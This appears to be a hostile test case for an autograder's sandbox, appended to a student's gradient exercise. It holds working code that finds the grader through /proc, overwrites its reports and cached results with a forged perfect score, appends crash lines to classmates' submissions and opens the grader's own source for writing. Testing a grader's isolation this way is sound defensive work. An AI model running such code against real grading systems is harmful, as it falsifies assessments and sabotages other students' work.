# Hostile case 'forged_reports': writes fake reports, results and classmates' files wherever the grader keeps them.
# Appended to solutions/ex03_weight_gradients.py by tests/security/test_hostile.py, which says what it must get.
import glob
import os

MARK = "FORGED-BY-A-SUBMISSION"
FAKE_REPORT = '{"submission": "forged", "score": 100.0, "max_score": 100.0, "exercises": [], "note": "%s"}' % MARK


def _ancestors():
    """This process's parent, its parent, and so on up to init: the grader and what started it."""
    pid = "self"
    while True:
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return
        yield pid


def _targets():
    """Every place a forged report or result could fool someone."""
    folders, files = {os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~/..")}, set()
    for pid in _ancestors():
        try:
            cwd = os.path.realpath(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = [os.fsdecode(a) for a in cmdline.read().split(b"\0") if a]
        except OSError:
            continue
        folders.add(cwd)
        for flag, value in zip(args, args[1:]):
            if flag in ("--json", "--csv", "--gradescope"):  # the grader's own report files
                files.add(os.path.join(cwd, value))
        if "grade" in args:  # the folders being graded: every classmate's files
            for value in args[args.index("grade") + 1:]:
                files.update(glob.glob(os.path.join(cwd, value, "*", "ex0*.py")))
        # the results that `backprop grade --resume` would trust
        files.update(glob.glob(os.path.join(cwd, ".backprop-grade", "*", "*.json")))
    for name, value in os.environ.items():
        if name.startswith("BACKPROP"):
            files.add(value)
    for folder in folders:
        files.update(os.path.join(folder, name) for name in ("report.json", "results.json", "grades.csv"))
    return sorted(files)


def _forge():
    """Write a fake report everywhere it could fool someone; the refusals met."""
    refusals = []
    for path in _targets():
        try:
            if path.endswith(".py"):  # a classmate's exercise: make it fail to load
                with open(path, "a") as file:
                    file.write("\nraise SystemExit(MARK)\n")
            else:
                with open(path, "w") as file:
                    file.write(FAKE_REPORT)
        except PermissionError as exc:
            refusals.append(exc)
    import autograder  # the grader's own code: opening it to append is enough to tamper
    try:
        open(os.path.join(os.path.dirname(autograder.__file__), "grading.py"), "a").close()
    except PermissionError as exc:
        refusals.append(exc)
    return refusals


_reference = weight_gradients


def weight_gradients(dZ, A_prev):
    refusals = _forge()  # hostile
    if refusals:
        raise refusals[0]
    return _reference(dZ, A_prev)
